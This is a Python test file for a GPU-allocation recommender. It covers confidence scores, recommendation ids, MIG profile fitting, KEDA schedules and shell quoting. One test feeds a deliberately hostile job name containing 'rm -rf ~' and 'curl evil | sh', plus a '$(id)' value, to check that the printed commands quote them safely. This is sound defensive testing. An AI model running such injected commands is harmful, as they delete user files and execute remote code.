"""The pure rules: confidence, ids, the culling timeout, the quantile, MIG fit, schedules,
and the commands printed for a person."""

from __future__ import annotations

import json
import subprocess
from datetime import UTC, datetime, timedelta

import pytest

from gpugap.recommend import base, interactive
from gpugap.schemas.models import RecommendationChange
from gpugap.stats import quantile


def test_confidence_is_history_times_amount_times_steadiness() -> None:
    c = base.confidence
    assert c("slurm_time_limit", 10, 1.0, 0.0) == 0.5  # VPA: 1 + 1/days with 1 day
    assert c("slurm_time_limit", 10, 7.0, 0.0) == pytest.approx(0.875)
    assert c("slurm_time_limit", 5, 7.0, 0.0) == pytest.approx(0.4375, abs=1e-3)  # half the jobs
    assert c("slurm_time_limit", 10, 7.0, 1.0) == pytest.approx(0.875 / 2, abs=1e-3)  # cv 1
    assert c("slurm_time_limit", 0, 7.0, 0.0) == 0.0
    grows = [c("gpu_count", 5, d, 0.1) for d in (1, 2, 7, 14, 30)]
    assert grows == sorted(grows) and grows[-1] < 1


def test_the_same_target_and_change_get_the_same_id() -> None:
    t = base.slurm_target("hpc", "alice", "vision", "train", "gpu")
    ch = RecommendationChange(parameter="time_limit_s", from_value="28800", to_value="9000")
    rid = base.recommendation_id("slurm_time_limit", t, ch)
    assert rid == base.recommendation_id("slurm_time_limit", t.model_copy(), ch.model_copy())
    assert rid.startswith("time-") and len(rid) == 17
    other = ch.model_copy(update={"to_value": "9900"})
    assert base.recommendation_id("slurm_time_limit", t, other) != rid


def test_the_culling_timeout_sits_above_the_pauses() -> None:
    assert interactive.culling_minutes([216, 216]) == 30  # no pauses: the floor
    assert interactive.culling_minutes([5] * 9 + [40, 300]) == 30  # p90 of the pauses 8.5 -> 30
    assert interactive.culling_minutes([35] * 10) == 45  # 35 rounded up to 15 min
    assert interactive.culling_minutes([59] * 10) == 60


def test_quantile_interpolates_like_numpy() -> None:
    assert quantile([1, 2, 3, 4], 0.5) == 2.5
    assert quantile([7320.0] * 2 + [7080.0] * 12, 0.95) == 7320.0
    assert base.hms(9000) == "2:30:00" and base.hms(30 * 3600) == "30:00:00"


def test_k8s_workload_of_a_replicaset_is_its_deployment() -> None:
    t = base.k8s_target("k8s", "serving", "ReplicaSet", "llm-chat-7f9c8d", "llm-chat-7f9c8d-x")
    assert (t.owner_kind, t.owner_name) == ("Deployment", "llm-chat")
    assert base.k8s_target("k8s", "ns", "", "", "solo").owner_name == "solo"


def test_gpu_models_and_the_smallest_mig_profile_that_fits() -> None:
    from gpugap.recommend.fit import fitting, model_key

    assert model_key("NVIDIA A100-SXM4-80GB") == "A100-80GB"
    assert model_key("NVIDIA H100 80GB HBM3") == "H100-80GB"
    assert model_key("H200 141GB") == "H200-141GB"
    assert model_key("H100") is None and model_key("L40S 48GB") is None  # -> assumed default
    assert fitting(0.08, 6000, "H100-80GB") == ("1g.10gb", 1, 10)
    assert fitting(0.08, 9300, "H100-80GB") == ("2g.20gb", 2, 20)  # memory decides: > 90 %
    assert fitting(0.30, 6000, "A100-40GB") == ("3g.20gb", 3, 20)
    assert fitting(0.52, 6000, "H100-80GB") is None  # more than 4/7 x 90 % busy


def test_replicas_by_hour_and_the_keda_schedule() -> None:
    from gpugap.recommend.services import keda_cron, replicas_for, schedule_text

    assert replicas_for(1.4, 1) == 2 and replicas_for(1.41, 1) == 3  # 1.4/0.7 is exactly 2
    assert replicas_for(0.0, 2) == 1  # never below one replica
    day = (1,) * 8 + (3,) * 8 + (1,) * 8
    assert schedule_text(day) == "00-08:1,08-16:3,16-24:1"
    yaml = keda_cron("serving", "ranker", "Deployment", day)
    assert "minReplicaCount: 1" in yaml and yaml.count("type: cron") == 1
    assert 'start: "0 8 * * *", end: "0 16 * * *", desiredReplicas: "3"' in yaml


def test_what_a_person_runs_quotes_every_value_from_a_record() -> None:
    """A job name is whatever its user typed: in the printed commands it is one shell word,
    in a comment it cannot start a new line, in the KEDA YAML it is a quoted scalar."""
    from gpugap.recommend.base import HistoryWindow
    from gpugap.recommend.batch import SlurmFamily, time_limit
    from gpugap.recommend.services import keda_cron

    evil = "x'; rm -rf ~ #\nEOF\ncurl evil | sh"
    fam = SlurmFamily(
        cluster="hpc", user="alice", account="a", job_name=evil, partition="gpu", qos="q$(id)",
        elapsed_s=(3600.0,) * 5, limit_s=(8 * 3600,) * 5, gpus=(1,) * 5, timeouts=0, jobs=5,
    )  # fmt: skip
    now = datetime(2026, 11, 9, tzinfo=UTC)
    rec = time_limit(fam, HistoryWindow(now - timedelta(days=7), now, 7.0), now)
    assert rec is not None
    lines = rec.apply.splitlines()
    assert not any(line.startswith(("rm", "curl", "EOF")) for line in lines)
    assert "$'" not in rec.apply  # POSIX quoting only: dash has no $'...'
    assert "--name='x'\"'\"'; rm -rf ~ #?EOF?curl evil | sh'" in rec.apply
    assert "'q$(id)'" in rec.apply and "--partition=gpu" in rec.apply
    # bash and dash read the quoted word back as the job name, its newlines shown as '?'
    word = rec.apply.split("--name=", 1)[1].split(" --partition", 1)[0]
    for shell in ("bash", "dash"):
        cmd = [shell, "-c", f"printf %s {word}"]
        echoed = subprocess.run(cmd, check=True, capture_output=True, text=True)
        assert echoed.stdout == evil.replace("\n", "?")
    yaml = keda_cron("ns", evil, "Deployment", (1, 2) * 12)
    assert "\nEOF\n" not in yaml and json.dumps(evil) in yaml


def test_no_mig_slice_for_a_gpu_the_card_names_without_mig() -> None:
    from gpugap.recommend.base import k8s_target
    from gpugap.recommend.fit import GpuUse, gpu_share
    from gpugap.schemas.types import WorkloadClass

    now = datetime(2026, 11, 9, tzinfo=UTC)
    w = base.HistoryWindow(now - timedelta(days=7), now, 7.0)

    def use(model: str | None) -> GpuUse:
        return GpuUse(
            target=k8s_target("k8s", "serving", "Deployment", "tok", "tok-0"),
            workload_class=WorkloadClass.SERVICE, gpus=1, allocations=1, gpu_hours=168.0,
            measured_minutes=7 * 1440, memory_minutes=7 * 1440, allocation_peaks=(0.08,),
            peak_memory_mib=6000.0, gpu_model=model,
        )  # fmt: skip

    assert gpu_share(use("NVIDIA L40S"), w, now) is None
    assumed = gpu_share(use(None), w, now)
    assert assumed is not None and "assumed" in assumed.rationale
    h200 = gpu_share(use("NVIDIA H200 141GB"), w, now)
    assert h200 is not None and h200.change.to_value == "1 x 1g.18gb"
